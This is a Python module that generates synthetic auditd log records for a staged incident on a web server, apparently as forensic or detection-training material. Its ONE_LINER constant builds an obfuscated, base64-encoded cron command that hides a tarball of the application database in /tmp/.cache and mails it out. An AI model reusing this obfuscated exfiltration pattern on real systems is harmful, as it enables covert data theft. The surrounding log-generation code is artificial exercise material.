"""web1/audit.log: raw auditd records of the cron one-liner, the mail tools and their connections.

Records of one event carry one serial number; some lines are out of order, as auditd writes them
when two processes are busy at once. Values follow the kernel's rule: quoted when printable and
free of blanks and quotes, otherwise the bytes in hexadecimal.
"""
from __future__ import annotations

import base64
import shlex
import socket

from flows import Flow, stable
from story import HOSTS, PROCESSES, Process, instant

EXECVE, CONNECT = 59, 42
UNSET = 4294967295
NODE = HOSTS["web1"].fqdn  # auditd.conf: name_format = fqd
SCRIPT = ("mkdir -p /tmp/.cache; tar czf /tmp/.cache/db.tar.gz -C /srv/app db; "
          + PROCESSES["mailx"].command + " </dev/null\n")
ONE_LINER = f"echo {base64.b64encode(SCRIPT.encode()).decode()} | base64 -d | sh"
LIBC = 'item=1 name="/lib64/ld-linux-x86-64.so.2"'


def untrusted(text: str) -> str:
    data = text.encode()
    if any(b < 0x21 or b > 0x7E or b == 0x22 for b in data):
        return data.hex().upper()
    return f'"{text}"'


class Log:
    """Collects (time, serial, line) and counts the serial numbers."""

    def __init__(self) -> None:
        self.rows: list[tuple[float, int, str]] = []
        self.serial = 8810

    def event(self, time: float, *records: tuple[str, str]) -> None:
        self.serial += 1
        stamp = f"audit({int(time * 1000) / 1000:.3f}:{self.serial})"
        for kind, text in records:
            self.rows.append((time, self.serial, f"node={NODE} type={kind} msg={stamp}: {text}"))


def subject(pid: int, ppid: int, uid: int, interactive: bool, comm: str, exe: str, key: str) -> str:
    ids = " ".join(f"{name}={uid}" for name in "uid gid euid suid fsuid egid sgid fsgid".split())
    where = "tty=pts0 ses=7" if interactive else f"tty=(none) ses={UNSET}"
    context = ("unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023" if interactive
               else "system_u:system_r:system_cronjob_t:s0-s0:c0.c1023")
    return (f"ppid={ppid} pid={pid} auid={uid if interactive else UNSET} {ids} {where} comm={untrusted(comm)} "
            f'exe="{exe}" subj={context} key="{key}"')


def proctitle(argv: list[str]) -> tuple[str, str]:
    data = "\0".join(argv).encode()[:128].decode()
    return "PROCTITLE", "proctitle=" + untrusted(data)


def executed(log: Log, time: float, pid: int, ppid: int, uid: int, interactive: bool, path: str, exe: str,
             argv: list[str], cwd: str) -> None:
    registers = " ".join(f"a{i}={0x55d0c8a00000 + stable(f'{pid} a{i}', 1 << 20):x}" for i in range(3))
    inode = 131000 + stable(path, 9000)
    objects = "dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:bin_t:s0 nametype=NORMAL"
    caps = "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
    log.event(
        time,
        ("SYSCALL", f"arch=c000003e syscall={EXECVE} success=yes exit=0 {registers} a3=8 items=2 "
                    + subject(pid, ppid, uid, interactive, path.rsplit("/", 1)[1][:15], exe, "exec")),
        ("EXECVE", f"argc={len(argv)} " + " ".join(f"a{i}={untrusted(a)}" for i, a in enumerate(argv))),
        ("CWD", f'cwd="{cwd}"'),
        ("PATH", f'item=0 name="{path}" inode={inode} {objects} {caps}'),
        ("PATH", f"{LIBC} inode=134729 {objects} {caps}"),
        proctitle(argv))


def connecting(log: Log, time: float, pid: int, ppid: int, uid: int, interactive: bool, comm: str, exe: str,
               argv: list[str], address: str, port: int) -> None:
    saddr = (b"\x02\x00" + port.to_bytes(2, "big") + socket.inet_aton(address) + bytes(8)).hex().upper()
    log.event(
        time,
        ("SYSCALL", f"arch=c000003e syscall={CONNECT} success=yes exit=0 a0=4 a1=7ffd{stable(str(pid), 1 << 32):08x} "
                    "a2=10 a3=0 items=0 " + subject(pid, ppid, uid, interactive, comm, exe, "net")),
        ("SOCKADDR", f"saddr={saddr}"),
        proctitle(argv))


def account(log: Log, time: float, kind: str, op: str) -> None:
    log.event(time, (kind, f"pid={PROCESSES['crond'].pid} uid=0 auid={UNSET} ses={UNSET} "
                           "subj=system_u:system_r:crond_t:s0-s0:c0.c1023 "
                           f"msg='op=PAM:{op} grantors=pam_access,pam_unix acct=\"apache\" exe=\"/usr/sbin/crond\" "
                           "hostname=? addr=? terminal=cron res=success'"))


PATHS = {"cronsh": "/bin/sh", "unbase64": "/usr/bin/base64", "script": "/usr/bin/sh", "tar": "/usr/bin/tar",
         "gzip": "/usr/bin/gzip", "mailx": "/usr/bin/mailx", "adminmail": "/usr/bin/mailx"}
ARGV = {"cronsh": ["/bin/sh", "-c", ONE_LINER]}


def argv(p: Process) -> list[str]:
    return ARGV.get(p.key) or shlex.split(p.command)


def nightly(log: Log) -> None:
    """logrotate by cron.daily: a script without a terminal that sends nothing."""
    start = instant("03:20:01.530")
    for delay, pid, ppid, path, exe, args in (
            (0.0, 4377, 4376, "/bin/sh", "/usr/bin/bash", ["/bin/sh", "-c", "run-parts /etc/cron.daily"]),
            (0.012, 4378, 4377, "/usr/bin/run-parts", "/usr/bin/bash",
             ["/bin/bash", "/usr/bin/run-parts", "/etc/cron.daily"]),
            (0.031, 4380, 4378, "/etc/cron.daily/logrotate", "/usr/bin/bash", ["/bin/sh", "/etc/cron.daily/logrotate"]),
            (0.044, 4381, 4380, "/usr/sbin/logrotate", "/usr/sbin/logrotate",
             ["/usr/sbin/logrotate", "-s", "/var/lib/logrotate/logrotate.status", "/etc/logrotate.conf"])):
        executed(log, start + delay, pid, ppid, 0, False, path, exe, args, "/")


def audit(flows: list[Flow]) -> str:
    log = Log()
    account(log, instant("02:30:01.201"), "USER_ACCT", "accounting")
    account(log, instant("02:30:01.202"), "CRED_ACQ", "setcred")
    for key in ("cronsh", "unbase64", "script", "tar", "gzip", "mailx"):
        p = PROCESSES[key]
        executed(log, instant(p.started), p.pid, PROCESSES[p.parent].pid, 48, False, PATHS[key], p.image, argv(p),
                 "/usr/share/httpd")
    connections = {f.session.key: f.connection for f in flows}

    def connects(key: str, session: str, uid: int, ppid: int, interactive: bool) -> None:
        p, c = PROCESSES[key], connections[session]
        connecting(log, c.start - 0.0002, p.pid, ppid, uid, interactive, "mailx", p.image, argv(p), c.dst, c.dport)

    connects("mailx", "web-cron", 48, PROCESSES["script"].pid, False)
    account(log, instant("02:30:14.260"), "CRED_DISP", "setcred")
    nightly(log)
    admin = PROCESSES["adminmail"]
    executed(log, instant("10:12:33.902"), 5304, 5288, 1000, True, "/usr/bin/df", "/usr/bin/df", ["df", "-h"], "/home/dave")
    executed(log, instant(admin.started), admin.pid, 5288, 1000, True, PATHS["adminmail"], admin.image, argv(admin),
             "/home/dave")
    connects("adminmail", "admin", 1000, 5288, True)
    return "".join(line + "\n" for line in disordered(log))


def disordered(log: Log) -> list[str]:
    """base64 and sh start in the same millisecond: their records interleave. One PROCTITLE is late."""
    lines = [line for _, _, line in log.rows]
    serials = [serial for _, serial, _ in log.rows]
    first = next(i for i, line in enumerate(lines) if 'comm="base64"' in line)
    a, b = serials[first], serials[first] + 1
    block = [i for i, s in enumerate(serials) if s in (a, b)]
    half = len(block) // 2
    mixed = [i for pair in zip(block[:half], block[half:]) for i in pair]
    for at, source in zip(block, [lines[i] for i in mixed]):
        lines[at] = source
    late = next(i for i, line in enumerate(lines) if "/etc/cron.daily/logrotate" in line and "EXECVE" in line)
    end = next(i for i in range(late, len(lines)) if " type=PROCTITLE " in lines[i])
    lines.insert(end + 2, lines.pop(end))
    return lines
